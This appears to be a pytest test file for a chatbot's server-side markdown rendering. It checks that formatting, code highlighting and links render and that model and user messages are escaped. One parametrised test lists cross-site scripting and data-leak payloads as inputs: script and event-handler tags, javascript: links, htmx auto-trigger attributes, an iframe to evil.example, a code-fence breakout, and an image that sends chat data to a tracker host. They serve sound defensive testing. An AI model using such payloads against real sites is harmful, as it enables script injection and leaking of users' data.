"""Markdown rendered on the server, code highlighted, everything sanitised."""
from html.parser import HTMLParser

import pytest

from chatbot.rendering import render_markdown
from chatbot.store import COMPLETE
from tests.conftest import new_chat


def test_markdown_is_rendered():
    html = render_markdown("**bold** and *it*\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<strong>bold</strong>" in html and "<em>it</em>" in html
    assert "<li>one</li>" in html and "<td>1</td>" in html


def test_code_blocks_are_highlighted_with_classes_not_styles():
    html = render_markdown("```python\ndef f(x):\n    return x\n```")
    assert '<pre class="highlight"><code class="language-python">' in html
    assert '<span class="k">def</span>' in html and "style=" not in html


def test_unknown_language_is_plain_escaped_code():
    html = render_markdown("```nosuchlang\n<b>x</b>\n```")
    assert "&lt;b&gt;x&lt;/b&gt;" in html and "<b>" not in html


def test_links_are_safe():
    html = render_markdown("[docs](https://example.com)")
    assert 'href="https://example.com"' in html and 'rel="noopener noreferrer nofollow"' in html


@pytest.mark.parametrize("source", [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "![x](https://tracker.example/leak?chat=secret)",
    '<div hx-get="/logout" hx-trigger="load">x</div>',
    '<a href="/x" hx-post="/chats" data-hx-post="/chats">x</a>',
    "<iframe src=https://evil.example></iframe>",
    '<p style="position:fixed">x</p>',
    "<svg onload=alert(1)>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
])
def test_dangerous_input_never_becomes_markup(source):
    for tag, attributes in elements(render_markdown(source)):
        assert tag in {"p", "a", "pre", "code", "span"}, tag
        for name, value in attributes:
            assert name in {"href", "rel", "class"}, name
            assert not (value or "").strip().lower().startswith("javascript:")
            assert (value or "").startswith(("http", "/", "noopener", "language-", "highlight")) or name == "class"


def elements(html):
    """Every (tag, attributes) the browser would build from ``html``."""
    found = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, attrs))
    Collector().feed(str(html))
    return found


def test_model_output_is_sanitised_on_the_page(client, auth, store):
    auth.signup()
    chat_id = new_chat(client)
    owner = store.user_by_email("ada@example.com").id
    store.add_message(owner, chat_id, "assistant", '<script>alert("x")</script> <b hx-get="/x">hi</b> **ok**', COMPLETE)
    html = client.get(f"/chats/{chat_id}").text
    start = html.index('<div class="message-text markdown">')
    section = html[start:html.index("</div>", start)]  # the model's words, as rendered
    assert "<strong>ok</strong>" in section and "&lt;script&gt;" in section
    tags = {tag for tag, _ in elements(section)}
    assert "script" not in tags and "b" not in tags
    assert not any(name.startswith("hx-") for _, attributes in elements(section) for name, _ in attributes)


def test_user_messages_are_shown_as_typed(client, auth, store):
    auth.signup()
    chat_id = new_chat(client)
    client.post(f"/chats/{chat_id}/messages", data={"content": "<em>not emphasis</em> **not bold**"})
    html = client.get(f"/chats/{chat_id}").text
    assert "&lt;em&gt;not emphasis&lt;/em&gt; **not bold**" in html
